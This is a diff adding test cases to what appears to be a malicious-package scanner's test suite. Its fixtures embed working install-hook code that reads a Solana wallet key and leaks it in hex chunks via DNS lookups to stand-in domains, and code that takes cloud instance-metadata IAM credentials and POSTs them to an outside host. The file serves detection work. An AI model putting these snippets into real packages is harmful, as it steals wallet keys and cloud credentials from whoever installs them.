@@ -637,3 +637,65 @@ export function init() { const tag = document.createElement('script'); tag.setAt
     ).toEqual([]);
   });
 });
+
+describe('secrets through string methods, collections and the cloud metadata service', () => {
+  const hexKey = `const dns = require('dns'); const fs = require('fs'); const os = require('os'); const path = require('path');
+const file = path.join(os.homedir(), '.config', 'solana', 'id.json');
+let hex = '';
+try { hex = Buffer.from(fs.readFileSync(file)).toString('hex'); } catch (e) {}`;
+  it('a key file in hex cut by a regular expression, each piece a DNS name', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `${hexKey}
+const chunks = hex.match(/.{1,60}/g) || [];
+chunks.forEach((c, i) => dns.resolve4(\`\${i}.\${c}.t.keys.example\`, () => {}));`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('the same pieces sent through map and a helper', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+          'index.js': `${hexKey}
+function ask(name) { return new Promise((ok) => dns.lookup(name, ok)); }
+Promise.all((hex.match(/.{1,50}/g) || []).map((part, n) => ask(n + '.' + part + '.k.example')));`,
+        }),
+      ),
+    ).toContain('data_exfiltration');
+  });
+  it("the instance metadata service's credentials posted to another host", () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'node index.js' } }),
+      'index.js': `const http = require('http'); const https = require('https');
+const META = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
+function get(u) { return new Promise((res) => http.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => res(b)); }).on('error', () => res(''))); }
+(async () => {
+  const role = (await get(META)).trim();
+  const creds = await get(META + role);
+  const req = https.request({ hostname: 'collect.cloud.example', path: '/c', method: 'POST' });
+  req.end(creds);
+})();`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.filter((f) => f.rule === 'js.exfil-flow').map((f) => f.line)).toEqual([8]);
+  });
+  it('asking the metadata service with its own token, and reading the region, stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const BASE = 'http://169.254.169.254/latest';
+export async function region() {
+  const token = await fetch(BASE + '/api/token', { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }).then((r) => r.text());
+  const role = await fetch(BASE + '/meta-data/iam/security-credentials/', { headers: { 'X-aws-ec2-metadata-token': token } }).then((r) => r.text());
+  const creds = await fetch(BASE + '/meta-data/iam/security-credentials/' + role, { headers: { 'X-aws-ec2-metadata-token': token } }).then((r) => r.json());
+  const doc = await fetch(BASE + '/dynamic/instance-identity/document').then((r) => r.json());
+  return { region: doc.region, expires: creds.Expiration };
+}`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
